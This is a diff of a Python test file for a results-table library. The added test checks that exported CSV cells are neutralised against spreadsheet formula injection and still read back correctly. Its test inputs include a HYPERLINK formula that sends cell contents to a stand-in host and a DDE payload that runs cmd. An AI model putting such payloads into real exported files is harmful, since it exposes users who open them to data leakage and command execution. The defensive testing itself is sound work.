@@ -81,8 +81,8 @@ def test_table_as_text_csv_and_json(table):
     ]  # fmt: skip
     (line,) = [line for line in lines if line.startswith("mean over samples")]
     assert line.split() == ["mean", "over", "samples", "4", "3.00000", "30.00"]
-    rows = list(csv.DictReader(table_lib.csv_text(table).splitlines()))
-    samples = list(csv.DictReader(table_lib.samples_csv(table).splitlines()))
+    rows = table_lib.read_csv(table_lib.csv_text(table))
+    samples = table_lib.read_csv(table_lib.samples_csv(table))
     assert [r["model_id"] for r in samples] == list("abcd")
     assert [r["record"] for r in samples] == list("0123")
     assert samples[3]["view"] == "7"
@@ -97,6 +97,24 @@ def test_table_as_text_csv_and_json(table):
     assert document["categories"]["car"]["samples"] == 3
     assert document["step"] == 7
     assert document["num_pred_points"] == 1024
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://a/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1", "\r=1",
+     "a\x1b[31m", "'quoted", "\uff1d1+1", " =1", "a;=1+1", 'a"=1', "C:\\new", "'\\x41\\", "\ud800",
+     "chair", ""],
+)  # fmt: skip
+def test_names_of_others_are_no_formulas_in_csv_and_are_read_back(table, name):
+    names = [SampleName(i, name, name, view=7) for i in range(4)]
+    for write in (table_lib.csv_text, table_lib.samples_csv):
+        text = write(dataclasses.replace(table, names=names))
+        rows = list(csv.reader(text.splitlines()))
+        assert all(len(row) == len(rows[0]) for row in rows)
+        assert not any(cell.lstrip().startswith(tuple("=+@-\uff1d")) for r in rows for cell in r)
+        assert text.replace("\n", "").isprintable()
+        assert table_lib.read_csv(text)[0]["category"] == name or (not name and "(none)" in text)
+    assert table_lib.read_csv(text)[0]["model_id"] == name
 
 
 def test_missing_runs_and_checkpoints_are_named(tmp_path):
